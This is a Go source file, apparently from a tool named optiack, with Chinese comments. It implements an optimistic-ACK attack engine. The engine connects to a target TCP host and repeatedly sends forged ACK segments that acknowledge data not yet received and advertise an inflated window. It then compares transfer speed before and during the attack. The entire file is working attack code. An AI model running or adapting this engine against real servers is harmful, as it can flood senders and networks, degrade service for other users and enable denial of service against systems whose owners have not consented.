// =============================================================================
// 文件: internal/attack/engine.go
// 描述: 攻击引擎 - 定时伪造 ACK 流与基线/攻击速度对比
// =============================================================================
package attack

import (
	"context"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"golang.org/x/sync/errgroup"

	"github.com/mrcgq/optiack/internal/config"
	"github.com/mrcgq/optiack/internal/segment"
	"github.com/mrcgq/optiack/internal/transport"
)

// ErrSessionActive 会话已在运行
var ErrSessionActive = errors.New("攻击会话已在运行")

// 伪造段的基准通告窗口
const baseWindow = 32768

// Engine 攻击引擎
// 一个引擎驱动一次会话: Idle → Connecting → (BaselineMeasuring) → Attacking → Stopped
type Engine struct {
	cfg     *config.AttackConfig
	dialer  transport.Dialer
	session *Session

	emitter transport.Emitter

	srcIP   net.IP
	dstIP   net.IP
	srcPort int
	dstPort int

	ctx      context.Context
	cancel   context.CancelFunc
	stopOnce sync.Once

	logLevel int
}

// Option 引擎选项
type Option func(*Engine)

// WithLogLevel 设置日志级别
func WithLogLevel(level int) Option {
	return func(e *Engine) {
		e.logLevel = level
	}
}

// NewEngine 创建攻击引擎
func NewEngine(cfg *config.AttackConfig, dialer transport.Dialer, opts ...Option) *Engine {
	ctx, cancel := context.WithCancel(context.Background())

	e := &Engine{
		cfg:      cfg,
		dialer:   dialer,
		session:  newSession(cfg.TargetHost, cfg.TargetPort),
		ctx:      ctx,
		cancel:   cancel,
		logLevel: 1,
	}

	for _, opt := range opts {
		opt(e)
	}
	return e
}

// Session 会话访问器
func (e *Engine) Session() *Session {
	return e.session
}

// Run 执行完整会话生命周期，阻塞直到结束
// 无论因时长耗尽、外部停止还是连接失败终止，最终指标都会被结算
func (e *Engine) Run(ctx context.Context) error {
	if !e.session.begin() {
		return ErrSessionActive
	}

	runCtx, cancel := context.WithCancel(ctx)
	defer cancel()
	go func() {
		select {
		case <-e.ctx.Done():
			cancel()
		case <-runCtx.Done():
		}
	}()

	defer func() {
		e.session.finalize()
		e.logFinal()
	}()

	// 连接失败对整个会话致命
	em, err := e.dialer.Dial(runCtx)
	if err != nil {
		return fmt.Errorf("攻击会话连接失败: %w", err)
	}
	e.emitter = em
	defer em.Close()

	e.resolveEndpoints(em)
	e.log(1, "已连接 %s:%d (本地 %v)", e.cfg.TargetHost, e.cfg.TargetPort, em.LocalAddr())

	if e.cfg.CompareSpeeds {
		e.session.setState(StateBaselineMeasuring)
		e.log(1, "测量基线传输速度 (%d 秒)", e.cfg.MeasureSeconds)
		speed, merr := MeasureTransfer(runCtx, e.cfg.TargetHost, e.cfg.TargetPort, e.cfg.MeasureSeconds)
		if merr != nil {
			e.log(0, "基线测量失败: %v", merr)
		} else {
			e.session.setBaselineSpeed(speed)
			e.log(1, "基线速度 %.0f B/s", speed)
		}
	}

	e.session.setState(StateAttacking)
	e.session.markStart(time.Now())
	e.log(1, "开始伪造 ACK 流: 间隔 %dms, 每次推进 %d 字节", e.cfg.PacketIntervalMs, e.cfg.AckAdvanceSizeBytes)

	g, gctx := errgroup.WithContext(runCtx)
	g.Go(func() error {
		return e.ackLoop(gctx)
	})
	if e.cfg.ConcurrentTransfer || e.cfg.CompareSpeeds {
		g.Go(func() error {
			e.session.setTransferActive(true)
			defer e.session.setTransferActive(false)

			speed, terr := MeasureTransfer(gctx, e.cfg.TargetHost, e.cfg.TargetPort, e.cfg.MeasureSeconds)
			if terr != nil {
				// 传输测量失败不终止伪造 ACK 任务
				e.log(0, "攻击期传输测量失败: %v", terr)
				return nil
			}
			e.session.setAttackSpeed(speed)
			e.log(1, "攻击期速度 %.0f B/s", speed)
			return nil
		})
	}

	return g.Wait()
}

// Stop 请求停止会话，可重复调用
func (e *Engine) Stop() {
	e.stopOnce.Do(func() {
		e.log(1, "收到停止请求")
		e.cancel()
	})
}

// resolveEndpoints 从传输层地址解析端点与初始序列号
func (e *Engine) resolveEndpoints(em transport.Emitter) {
	e.srcIP = transport.AddrIPv4(em.LocalAddr())
	e.dstIP = transport.AddrIPv4(em.RemoteAddr())
	e.srcPort = transport.AddrPort(em.LocalAddr())
	e.dstPort = transport.AddrPort(em.RemoteAddr())

	if e.cfg.SourcePort > 0 {
		e.srcPort = e.cfg.SourcePort
	}
	if e.dstPort == 0 {
		e.dstPort = e.cfg.TargetPort
	}

	var srcHost, dstHost string
	if e.srcIP != nil {
		srcHost = e.srcIP.String()
	}
	if e.dstIP != nil {
		dstHost = e.dstIP.String()
	}

	seq := segment.InitialSeq(srcHost, e.srcPort, dstHost, e.dstPort)
	ack := segment.InitialSeq(dstHost, e.dstPort, srcHost, e.srcPort)

	e.session.setEndpoints(srcHost, e.srcPort, dstHost)
	e.session.setInitialNumbers(seq, ack)
}

// ackLoop 伪造 ACK 的定时循环
func (e *Engine) ackLoop(ctx context.Context) error {
	interval := time.Duration(e.cfg.PacketIntervalMs) * time.Millisecond
	duration := time.Duration(e.cfg.AttackDurationSeconds) * time.Second

	ticker := time.NewTicker(interval)
	defer ticker.Stop()
	deadline := time.NewTimer(duration)
	defer deadline.Stop()

	for {
		select {
		case <-ticker.C:
			e.tick()
		case <-deadline.C:
			e.log(1, "攻击时长耗尽")
			return nil
		case <-ctx.Done():
			return nil
		}
	}
}

// tick 单次伪造 ACK 发射
// 单次发射失败记录后吞掉，下个 tick 继续
func (e *Engine) tick() {
	advance := uint32(e.cfg.AckAdvanceSizeBytes)
	seq, ack := e.session.numbers()
	ack += advance

	h := &segment.Header{
		SrcPort: e.srcPort,
		DstPort: e.dstPort,
		Seq:     seq,
		Ack:     ack,
		Flags:   segment.Flags{ACK: true},
		Window:  scaledWindow(e.cfg.WindowScale, e.session.isTransferActive()),
	}

	var data []byte
	var err error
	if e.srcIP != nil && e.dstIP != nil {
		data, err = segment.EncodeWithChecksum(h, e.srcIP, e.dstIP)
	} else {
		data, err = segment.Encode(h)
	}
	if err != nil {
		e.log(0, "段编码失败: %v", err)
		e.session.advanceAck(advance, false, time.Now())
		return
	}

	err = e.emitter.Send(data)
	if err != nil {
		e.log(2, "发射失败: %v", err)
	}
	e.session.advanceAck(advance, err == nil, time.Now())
}

// scaledWindow 计算通告窗口
// 基准 32768，缩放系数大于 1 时相乘；并发传输期间再乘 1.5；封顶 65535
func scaledWindow(scale float64, transferActive bool) int {
	w := float64(baseWindow)
	if scale > 1 {
		w *= scale
	}
	if transferActive {
		w *= 1.5
	}
	return segment.ClampWindow(int(w))
}

// logFinal 输出最终指标
func (e *Engine) logFinal() {
	snap := e.session.Snapshot()
	e.log(1, "会话结束: 发包 %d, 成功 %d, 失败 %d, 累计推进 %d 字节, 速度 %.0f B/s",
		snap.PacketsEmitted, snap.SuccessfulEmissions, snap.FailedEmissions,
		snap.TotalAdvancedBytes, snap.CurrentSpeed)
	if snap.ImprovementKnown {
		e.log(1, "速度对比: 基线 %.0f B/s, 攻击 %.0f B/s, 提升 %.1f%%",
			snap.BaselineSpeed, snap.AttackSpeed, snap.SpeedImprovementPercent)
	}
}

// log 日志输出
func (e *Engine) log(level int, format string, args ...interface{}) {
	if level > e.logLevel {
		return
	}
	prefix := map[int]string{0: "[ERROR]", 1: "[INFO]", 2: "[DEBUG]"}[level]
	fmt.Printf("%s %s [Attack] %s\n", prefix, time.Now().Format("15:04:05"), fmt.Sprintf(format, args...))
}
